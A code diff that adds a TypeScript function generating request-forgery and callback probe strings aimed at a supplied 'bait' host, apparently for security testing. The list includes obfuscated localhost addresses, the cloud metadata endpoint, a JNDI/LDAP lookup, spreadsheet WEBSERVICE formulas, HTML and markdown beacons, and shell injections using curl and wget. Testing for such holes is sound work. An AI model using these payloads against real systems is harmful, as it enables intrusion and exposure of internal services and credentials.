@@ -1,0 +1,56 @@
+/** Addresses by which a program that fetches could be made to ask somebody: `bait` is a host and port that counts. */
+export function outsideAddresses(bait: string): string[] {
+  const port = bait.split(':')[1];
+  const hosts = [
+    bait,
+    `localhost:${port}`,
+    `127.1:${port}`,
+    `2130706433:${port}`,
+    `0x7f000001:${port}`,
+    `0177.0.0.1:${port}`,
+    `[::1]:${port}`,
+    `[::ffff:127.0.0.1]:${port}`,
+    `0.0.0.0:${port}`,
+    `user:word@${bait}`,
+    `example.org@${bait}`,
+    '169.254.169.254/latest/meta-data',
+    'metadata.example',
+  ];
+  const schemes = [
+    'ftp',
+    'gopher',
+    'dict',
+    'ldap',
+    'ws',
+    'wss',
+    'sftp',
+    'tftp',
+    'smb',
+    'git',
+    'redis',
+    'imap',
+  ];
+  return [
+    ...hosts.map((host) => `http://${host}/asked`),
+    `https://${bait}/asked`,
+    `//${bait}/asked`,
+    `\\\\${bait}\\asked`,
+    ...schemes.map((scheme) => `${scheme}://${bait}/asked`),
+    'file:///etc/hostname',
+    `file://${bait}/asked`,
+    `jar:http://${bait}/asked!/x`,
+    `view-source:http://${bait}/asked`,
+    `url:http://${bait}/asked`,
+    `javascript:fetch('http://${bait}/asked')`,
+    `![x](http://${bait}/asked)`,
+    `<img src="http://${bait}/asked">`,
+    `<link rel="prefetch" href="http://${bait}/asked">`,
+    `{"$ref": "http://${bait}/asked"}`,
+    `=WEBSERVICE("http://${bait}/asked")`,
+    `=IMAGE("http://${bait}/asked")`,
+    `\${jndi:ldap://${bait}/asked}`,
+    `{{"http://${bait}/asked"}}`,
+    `$(curl http://${bait}/asked)`,
+    `; wget http://${bait}/asked`,
+  ];
+}
